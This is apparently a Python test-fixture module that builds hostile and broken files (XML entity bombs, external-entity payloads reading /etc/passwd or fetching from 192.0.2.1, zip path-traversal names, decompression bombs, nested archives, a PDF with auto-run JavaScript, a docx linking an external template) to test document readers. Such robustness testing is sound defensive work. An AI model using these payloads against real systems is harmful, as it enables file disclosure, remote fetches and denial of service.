"""Every hostile or broken file that the readers are tried with, made here, as one table.

To add one: write its bytes in a line of the family it belongs to. `text` and `finding` say how it must end; without
either, any of the two will do.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

import hostile_bytes as raw
from hostile_kinds import FINDING, TEXT, HostileFile, results, standards, unit
from hostile_words import names, unreal, words

KILOBYTE, MEGABYTE = 2**10, 2**20

# --- bombs ----------------------------------------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)
SWOLLEN = '<!DOCTYPE l [<!ENTITY a "' + "ha" * 25_000 + '">]>'
SECRET = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FETCHED = '<!DOCTYPE l [<!ENTITY a SYSTEM "http://192.0.2.1/x">]>'
PARAMETER = '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'
ATTACKS = {"laughs": LAUGHS, "swollen": SWOLLEN, "secret": SECRET, "fetched": FETCHED, "parameter": PARAMETER}
USES = {"laughs": "&a9;", "swollen": "&a;" * 2000, "secret": "&a;", "fetched": "&a;", "parameter": "x"}


def bombs() -> Iterator[HostileFile]:
    yield unit("bomb.docx", lambda: raw.word(document=raw.blown(220)), FINDING)
    yield unit("bomb.pptx", lambda: raw.deck(slide=raw.blown(220)), FINDING)
    yield unit("bomb.xlsx", lambda: raw.workbook(raw.blown(600)), FINDING)
    yield unit("bomb.odt", lambda: raw.opendocument(content=raw.blown(220)), FINDING)
    yield unit("bomb.ods", lambda: raw.opendocument(kind="spreadsheet", content=raw.blown(600)), FINDING)
    yield unit("bomb.epub", lambda: raw.book(raw.blown(220)))
    yield unit("bomb.imscc", lambda: raw.course(manifest=raw.blown(220)), FINDING)
    yield unit("bomb.zip", lambda: raw.zipped({"huge.docx": raw.blown(600)}), FINDING)
    yield unit("many bombs.zip", lambda: raw.zipped({f"{n}.docx": raw.blown(600) for n in range(8)}), FINDING)
    yield unit(
        "overlap.zip", lambda: raw.zipped({f"{n}.docx": raw.blown(220) for n in range(60)}, shared=True), FINDING
    )
    yield unit("10000 files.zip", lambda: raw.zipped({f"{n}.jpg": b"" for n in range(10_000)}))
    yield standards("bomb.xlsx", lambda: raw.workbook(raw.blown(600)))
    yield standards("bomb.zip", lambda: raw.zipped({"standards.json": raw.blown(600)}))
    yield unit("stream.pdf", lambda: raw.pdf([*raw.pages(1)[:3], raw.flate(b" " * 100 * MEGABYTE), raw.pages(1)[4]]))


def entities() -> Iterator[HostileFile]:
    """Entities in every format that has XML inside."""
    for name, attack in ATTACKS.items():
        xml = f'<?xml version="1.0"?>{attack}<w>{USES[name]}</w>'.encode()
        yield unit(f"{name}.docx", raw.word(document=xml), FINDING)
        yield unit(f"{name}.pptx", raw.deck(slide=xml), FINDING)
        yield unit(f"{name}.xlsx", raw.workbook(xml))
        yield unit(f"{name}.odt", raw.opendocument(content=xml), FINDING)
        yield unit(f"{name}.epub", raw.book(xml))
        yield unit(f"{name}.imscc", raw.course(manifest=xml), FINDING)
        yield unit(f"{name}.html", xml)
        yield standards(f"{name}.xml", xml)
        yield results(f"{name}.xml", xml)
    yield unit("utf-16.odt", raw.opendocument(content=f"{LAUGHS}<w>&a9;</w>".encode("utf-16")), FINDING)


# --- archives -------------------------------------------------------------------------------------------------------

OUTSIDE = (
    "../escaped.md",
    "../../escaped.md",
    "/tmp/escaped.md",
    "C:\\escaped.md",
    "..\\..\\escaped.md",
    "a/../../../escaped.md",
)


def archives() -> Iterator[HostileFile]:
    page = b"# Escaped\n\nPupils measure.\n"
    for number, name in enumerate(OUTSIDE):
        yield unit(f"outside {number}.zip", raw.zipped({name: page, "inside.md": page}))
        yield unit(f"outside {number}.imscc", raw.course(name, more={name: page}))
    yield unit("link.zip", raw.zipped({"link.md": raw.deflated(b"/etc/passwd", mode=0o120777)}))
    yield unit("device.zip", raw.zipped({"zero.md": raw.deflated(b"x", mode=0o020666)}))
    nested = raw.zipped({"unit.md": page})
    for depth in (1, 3, 40):
        for _ in range(depth):
            nested = raw.zipped({"inner.zip": nested})
        yield unit(f"nested {depth}.zip", nested)
    yield unit("matryoshka.imscc", raw.course("inner.imscc", more={"inner.imscc": raw.course()}))
    yield unit("circle.imscc", raw.course(manifest=_circle()))
    yield unit("deep.imscc", raw.course(manifest=_deep_items(5000)))
    yield unit("no page.imscc", raw.course("gone.html"))
    yield unit("no manifest.imscc", raw.zipped({"a.html": b"<p>Pupils measure."}))
    yield unit("empty.zip", raw.zipped({}))
    yield unit("odd names.zip", raw.zipped({"\u202egpj.md": page, "a\nb\x1b[31m.md": page, "x" * 5000 + ".md": page}))
    yield unit("wrong sum.zip", raw.zipped({"a.md": raw.Packed(raw.deflated(page).deflated, 1, len(page))}))
    yield unit("wrong size.zip", raw.zipped({"a.md": raw.Packed(raw.deflated(page).deflated, 1, 2**31)}))


def _circle() -> bytes:
    item = '<item identifier="A" identifierref="A"><title>A</title><item identifier="A" identifierref="A"/></item>'
    tree = f"<organizations><organization>{item}</organization></organizations>"
    page = '<resource identifier="A" href="imsmanifest.xml"><dependency identifierref="A"/></resource>'
    return f"<manifest>{tree}<resources>{page}</resources></manifest>".encode()


def _deep_items(depth: int) -> bytes:
    return (
        b"<manifest><organizations><organization>"
        + b"<item><title>x</title>" * depth
        + b"</item>" * depth
        + b"</organization></organizations></manifest>"
    )


def encrypted() -> Iterator[HostileFile]:
    locked = raw.OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
    for suffix in ("docx", "pptx", "xlsx"):
        yield unit(f"locked.{suffix}", locked, FINDING)
    yield standards("locked.xlsx", locked)
    yield unit("locked.zip", raw.zipped({"a.md": raw.deflated(b"Pupils add.", flags=1)}), FINDING)
    yield unit("locked member.docx", raw.word(document=raw.deflated(b"<w/>", flags=1)), FINDING)
    key = b"/Encrypt<</Filter/Standard/V 1/R 2/O(%b)/U(%b)/P -4>>/ID[(a)(a)]" % (b"o" * 32, b"u" * 32)
    yield unit("locked.pdf", raw.pdf(raw.pages(1), trailer=key))
    mark = b'<manifest:manifest xmlns:manifest="urn:x"><manifest:encryption-data/></manifest:manifest>'
    yield unit(
        "locked.odt",
        raw.opendocument(content=random.Random(3).randbytes(900), **{"META-INF__manifest.xml": mark}),
        FINDING,
    )


# --- broken ---------------------------------------------------------------------------------------------------------

LONG = tuple(f"{raw.WORDS} This is sentence {n} of a long unit." for n in range(140))


def cut() -> Iterator[HostileFile]:
    """A file of each format, cut at every kilobyte."""
    page = f"<html><body><h1>Unit</h1>{''.join(f'<p>{text}</p>' for text in LONG[:40])}</body></html>".encode()
    code = "".join(f'{{"identifier": "i{n}", "fullStatement": "{text}"}},' for n, text in enumerate(LONG[:40]))
    noise = {"image.png": random.Random(5).randbytes(9 * KILOBYTE)}
    whole: dict[str, bytes] = {
        "curriculum/a.docx": raw.word(raw.paragraphs(*LONG), more=noise),
        "curriculum/a.pdf": raw.pdf(raw.pages(60)),
        "curriculum/a.pptx": raw.deck(slides=20),
        "curriculum/a.xlsx": raw.workbook("".join(raw.text_row(n, "3", f"{n} {raw.WORDS}") for n in range(1, 1200))),
        "curriculum/a.odt": raw.opendocument(noise=random.Random(6).randbytes(7 * KILOBYTE)),
        "curriculum/a.epub": raw.book(page),
        "curriculum/a.imscc": raw.course(more=noise),
        "curriculum/a.rtf": rb"{\rtf1\ansi " + " \\par ".join(LONG[:40]).encode() + b"}",
        "curriculum/a.html": page,
        "curriculum/a.eml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + page,
        "standards/a.json": f'{{"CFDocument": {{"title": "x"}}, "CFItems": [{code[:-1]}]}}'.encode(),
        "standards/a.xlsx": raw.workbook(
            "".join(raw.text_row(n, f"A.{n}", f"{n} {raw.WORDS}") for n in range(1, 1200))
        ),
    }
    for path, data in whole.items():
        stem, _, suffix = path.rpartition(".")
        for at in range(KILOBYTE, len(data), KILOBYTE):
            yield HostileFile(f"{stem} cut at {at // KILOBYTE} KB.{suffix}", data[:at])


EXTENSIONS = (
    *("docx", "docm", "doc", "pdf", "rtf", "epub", "eml", "ppt", "pptx", "xlsx", "xls", "xlsb", "ods", "odt", "odp"),
    *("html", "md", "txt", "csv", "tsv", "zip", "imscc", "pages", "gdoc"),
)


def noise() -> Iterator[HostileFile]:
    """Random bytes, NULs and nothing, under each extension."""
    for number, suffix in enumerate(EXTENSIONS):
        yield unit(f"noise.{suffix}", random.Random(number).randbytes(3000))
        yield unit(f"nothing.{suffix}", b"", FINDING)
    for suffix in ("json", "csv", "xlsx", "xml", "zip", "jsonl"):
        yield standards(f"noise.{suffix}", random.Random(suffix).randbytes(3000))
        yield results(f"noise.{suffix}", random.Random(suffix).randbytes(3000), "")
    yield unit("nul.docx", bytes(9000), FINDING)
    yield unit("nul.md", b"\0" * 9000, FINDING)


WRONG: dict[str, Callable[[], bytes]] = {
    "pdf.docx": lambda: raw.pdf(raw.pages(2)),
    "docx.pdf": raw.word,
    "docx.md": raw.word,
    "xlsx.txt": lambda: raw.workbook(raw.text_row(1, "Week", raw.WORDS)),
    "odt.docx": raw.opendocument,
    "html.pdf": lambda: f"<!DOCTYPE html><html><p>{raw.WORDS}</p></html>".encode(),
    "imscc.zip": raw.course,
    "text.docx": raw.WORDS.encode,
    "rtf.doc": lambda: rb"{\rtf1\ansi " + raw.WORDS.encode() + b"}",
    "png.pdf": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "exe.doc": lambda: b"MZ" + bytes(range(256)) * 8,
    "gzip.zip": lambda: b"\x1f\x8b\x08" + bytes(range(256)),
    "tar.zip": lambda: b"a.md".ljust(257, b"\0") + b"ustar\x0000" + bytes(700),
}


def wrong() -> Iterator[HostileFile]:
    """Another format than the extension says."""
    return (unit(f"is {name}", make) for name, make in WRONG.items())


# --- too much -------------------------------------------------------------------------------------------------------


def large() -> Iterator[HostileFile]:
    """Far too much of something, and yet small on the disk."""
    rows = "<row><c><v>1</v></c></row>" * 1_000_000
    far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    cell = '<table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
    repeated = '<table:table-row table:number-rows-repeated="1048576">{}</table:table-row>'
    wide = cell.replace(" ", ' table:number-columns-repeated="16384" ', 1)
    yield unit("million rows.xlsx", lambda: raw.workbook(raw.sheet(rows)))
    yield unit("million rows.csv", b"1,2\n" * 1_000_000, TEXT)
    yield unit("far cell.xlsx", raw.workbook(far), FINDING)
    yield unit("far cell in other quotes.xlsx", raw.workbook(far.replace('"', "'")), FINDING)
    yield unit("far cell.ods", raw.opendocument(_table(repeated.format(wide)), kind="spreadsheet"), FINDING)
    yield unit("million rows.ods", raw.opendocument(_table(repeated.format(cell)), kind="spreadsheet"))
    yield standards("far cell.xlsx", raw.workbook(far))
    yield standards("far cell in other quotes.xlsx", raw.workbook(far.replace('"', "'")))
    yield standards("far cell.ods", raw.opendocument(_table(repeated.format(wide)), kind="spreadsheet"))
    yield unit("10000 pages.pdf", lambda: raw.pdf(raw.pages(10_000)))
    yield unit("50 MB line.txt", lambda: b"measure " * (50 * MEGABYTE // 8))
    yield unit("50 MB word.md", lambda: b"m" * (50 * MEGABYTE))
    yield unit("50 MB line.csv", lambda: b"week," * (50 * MEGABYTE // 5))
    yield standards("50 MB line.json", lambda: b'{"CFItems": "' + b"m" * (50 * MEGABYTE) + b'"}')
    yield standards("50 MB line.csv", lambda: b"code,statement\nA," + b"m" * (50 * MEGABYTE))


def _table(rows: str) -> str:
    return f'<table:table table:name="x">{rows}</table:table>'


def deep() -> Iterator[HostileFile]:
    """Nested, circled or repeated beyond measure."""
    yield unit("deep.html", b"<div>" * 50_000 + b"deep")
    yield unit("deep.md", b"> " * 20_000 + b"[" * 20_000 + b"*" * 20_000)
    yield unit("deep.rtf", rb"{\rtf1" + b"{" * 50_000 + b" deep")
    yield unit("deep.docx", raw.word("<w:p>" * 5000 + "</w:p>" * 5000))
    yield unit("deep.odt", raw.opendocument("<text:list>" * 5000 + "</text:list>" * 5000))
    yield unit(
        "deep.eml",
        b"".join(b"Content-Type: multipart/mixed; boundary=x%d\r\n\r\n--x%d\r\n" % (n, n) for n in range(500)),
    )
    yield unit("attributes.html", b"<p " + b"a=b " * 100_000 + b">x</p>")
    yield unit("open quote.csv", b'week,unit\n1,"' + b"x,\n" * 50_000)
    yield unit("circle.pdf", raw.pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>"]))
    yield unit("no pages.pdf", raw.pdf([b"<</Type/Catalog>>"]))
    yield unit(
        "deep.pdf",
        raw.pdf([b"<</Type/Catalog/Pages 2 0 R/X" + b"[" * 20_000 + b"]" * 20_000 + b">>", *raw.pages(1)[1:]]),
    )
    yield unit("huge page.pdf", raw.pdf(raw.pages(1, page=b"/MediaBox[0 0 1e30 1e30]/UserUnit 1e9")))
    act = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1'\\))>>/AA<</O<</S/URI/URI(http://192.0.2.1)>>>>"
    yield unit("acts.pdf", raw.pdf(raw.pages(1, catalog=act)))
    yield unit("long length.pdf", raw.pdf(raw.pages(1)).replace(b"/Length", b"/Length 99999999999 /L"))
    yield unit("wrong table.pdf", raw.pdf(raw.pages(3)).replace(b" 00000 n", b" 99999 n"))
    yield unit("binary.rtf", rb"{\rtf1 \bin2147483647 x}")
    yield unit("linked.docx", raw.word(raw.paragraphs(raw.WORDS), more={"word/_rels/document.xml.rels": _outward()}))
    yield standards("deep.json", b"[" * 100_000 + b"]" * 100_000)
    yield standards("deep.xml", b"<a>" * 100_000)
    yield standards("number.json", b'{"CFItems": [' + b"9" * 100_000 + b"]}")
    yield results("deep.json", b"[" * 100_000 + b"]" * 100_000)
    yield results("deep.xml", b"<a>" * 100_000)
    yield unit("container.doc", raw.OLE + b"\xff" * 504 + "WordDocument".encode("utf-16-le") + bytes(9000))
    yield unit("container.ppt", raw.OLE + bytes(504) + "PowerPoint Document".encode("utf-16-le") + b"\xff" * 9000)
    yield unit("container.xls", raw.OLE + bytes(504) + "Workbook".encode("utf-16-le") + b"\xff" * 9000)


def _outward() -> bytes:
    names = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    target = 'Target="http://192.0.2.1/t.dotm" TargetMode="External"'
    one = f'<Relationship Id="rId9" Type="http://x/attachedTemplate" {target}/>'
    return f"<Relationships {names}>{one}</Relationships>".encode()


FAMILIES = (bombs, entities, archives, encrypted, cut, noise, wrong, large, deep, words, names, unreal)
FILES: tuple[HostileFile, ...] = tuple(file for family in FAMILIES for file in family())
"""All of them."""
